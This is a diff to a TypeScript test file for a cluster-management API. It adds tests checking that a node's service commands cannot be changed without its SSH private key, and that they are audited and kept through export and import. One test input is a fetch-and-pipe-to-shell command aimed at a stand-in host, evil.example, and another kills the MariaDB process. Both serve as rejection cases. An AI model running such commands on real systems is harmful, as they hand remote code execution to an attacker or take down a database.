@@ -2,11 +2,12 @@ import { describe, expect, it, beforeEach } from 'vitest';
 import * as hostKeyRoute from '@/app/api/clusters/[name]/nodes/[node]/host-key/route';
 import { loadProbeCredential } from '@/agents/load-targets';
 import { listAudit } from '@/lib/audit/list-audit';
+import { exportCluster } from '@/lib/clusters/export-cluster';
 import { importCluster } from '@/lib/clusters/import-cluster';
 import { parseWith, ZClusterDocumentSchema } from '@/lib/clusters/schema';
 import { getDb } from '@/lib/db/client';
 import { api, authHeaders } from '../support/api';
-import { sampleDoc, sampleNode, privateKey, type TDoc } from '../support/fixtures';
+import { sampleDoc, sampleNode, privateKey, type TDoc, type TDocNode } from '../support/fixtures';
 import { testDatabase } from '../support/use-test-database';
 
 const countRows = async () => {
@@ -360,5 +361,74 @@ describe('importing a document over a stored cluster', () => {
     expect(await loadProbeCredential({ db, cluster: 'lab' })).toMatchObject({ user: 'probe', password: 'second-probe-password' });
     await importCluster({ db, doc: parseWith(ZClusterDocumentSchema, sampleDoc()) });
     expect(await loadProbeCredential({ db, cluster: 'lab' })).toBeNull();
+  });
+});
+
+describe('node service commands (services)', () => {
+  const drillCommands = { stopMysql: "'/srv/lab/service.sh' stop-mysql", startMysql: "'/srv/lab/service.sh' start-mysql", isolate: 'sudo /usr/local/sbin/isolate', heal: 'sudo /usr/local/sbin/heal' };
+  // A node as the edit form sends it: no secrets.
+  const bare = (i: number, extra: Record<string, unknown> = {}) => ({ name: `node${i}`, host: `198.18.0.${10 + i}`, ssh: {}, mysql: { user: 'tandem' }, ...extra });
+  const stored = async () => (await getDb()).node.findMany({ orderBy: { name: 'asc' }, omit: { sshPrivateKeyEnc: false, mysqlPasswordEnc: false } });
+
+  beforeEach(async () => {
+    const doc = sampleDoc();
+    (doc.nodes[0] as TDocNode & { services?: unknown }).services = drillCommands;
+    expect((await api('POST', '/api/clusters', { json: doc })).status).toBe(201);
+  });
+
+  it('stores a node\'s overrides and shows them (null where the defaults apply)', async () => {
+    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { nodes: [{ name: 'node1', services: drillCommands }, { name: 'node2', services: null }] } });
+    expect((await stored()).map((n) => n.serviceCommands)).toEqual([JSON.stringify(drillCommands), null]);
+  });
+
+  it('refuses to set, change or remove them without the node\'s private key, and changes nothing', async () => {
+    const before = await stored();
+    for (const [nodes, at] of [
+      [[bare(1, { services: { ...drillCommands, stopMysql: 'curl -s https://evil.example/x | sh' } }), bare(2)], 0],
+      [[bare(1, { services: null }), bare(2)], 0],
+      [[bare(1), bare(2, { services: { killMysql: 'pkill -9 mariadbd' } })], 1],
+      // Only the password is not enough.
+      [[bare(1), bare(2, { services: { killMysql: 'x' }, mysql: { user: 'tandem', password: 'p' } })], 1],
+    ] as const) {
+      const res = await api('PATCH', '/api/clusters/lab', { json: { description: 'changed', nodes } });
+      expect(res.status).toBe(400);
+      expect(fieldsOf(res.body)).toEqual({ [`nodes.${at}.ssh.privateKey`]: 'must be sent with a change to services: service commands run on the node as its SSH user' });
+    }
+    expect(await stored()).toEqual(before);
+    expect((await api('GET', '/api/clusters/lab')).body).toMatchObject({ cluster: { description: 'test pair' } });
+  });
+
+  it('keeps them when a node is sent without them or with the same ones, without the key', async () => {
+    const res = await api('PATCH', '/api/clusters/lab', { json: { nodes: [bare(1, { ssh: { user: 'admin' } }), bare(2)] } });
+    expect(res.status).toBe(200);
+    expect(res.body).toMatchObject({ cluster: { nodes: [{ ssh: { user: 'admin' }, services: drillCommands }, { services: null }] } });
+    const reordered = { heal: drillCommands.heal, isolate: drillCommands.isolate, startMysql: drillCommands.startMysql, stopMysql: ` ${drillCommands.stopMysql} ` };
+    expect((await api('PATCH', '/api/clusters/lab', { json: { nodes: [bare(1, { services: reordered }), bare(2, { services: {} })] } })).status).toBe(200);
+  });
+
+  it('changes and removes them with the key, audited', async () => {
+    const changed = { stopMysql: 'sudo systemctl stop mysql', startMysql: 'sudo systemctl start mysql' };
+    const res = await api('PATCH', '/api/clusters/lab', { json: { nodes: [sampleNode(1), { ...sampleNode(2), services: changed }] } });
+    expect(res.status).toBe(200);
+    expect(res.body).toMatchObject({ cluster: { nodes: [{ services: drillCommands }, { services: changed }] } });
+    expect((await listAudit({ db: await getDb(), action: 'cluster.update', limit: 1 }))[0]?.detail).toContain('"servicesChanged":["node2"]');
+    const removed = await api('PATCH', '/api/clusters/lab', { json: { nodes: [{ ...sampleNode(1), services: null }, bare(2)] } });
+    expect(removed.body).toMatchObject({ cluster: { nodes: [{ services: null }, { services: changed }] } });
+  });
+
+  it('go out with the export and come back with an import: the round trip keeps them', async () => {
+    const db = await getDb();
+    const exported = await exportCluster({ db, name: 'lab' });
+    expect(exported.nodes.map((n) => n.services)).toEqual([drillCommands, undefined]);
+    expect((await api('GET', '/api/clusters/lab/export')).body).toEqual(exported);
+    const withSecrets = { ...exported, nodes: exported.nodes.map((n, i) => ({ ...n, ssh: { ...n.ssh, privateKey: sampleNode(i + 1).ssh.privateKey }, mysql: { ...n.mysql, password: 'pw' } })) };
+    await db.node.deleteMany({});
+    await db.cluster.deleteMany({});
+    expect((await importCluster({ db, doc: parseWith(ZClusterDocumentSchema, withSecrets) })).action).toBe('created');
+    expect(await exportCluster({ db, name: 'lab' })).toEqual(exported);
+    // Importing over it is a replacement: a node without services goes back to the defaults.
+    const { nodes: [first, second] } = withSecrets;
+    const replaced = await importCluster({ db, doc: parseWith(ZClusterDocumentSchema, { ...withSecrets, nodes: [{ ...first, services: undefined }, { ...second, services: drillCommands }] }) });
+    expect(replaced).toMatchObject({ action: 'updated', servicesChanged: ['node1', 'node2'], cluster: { nodes: [{ services: null }, { services: drillCommands }] } });
   });
 });
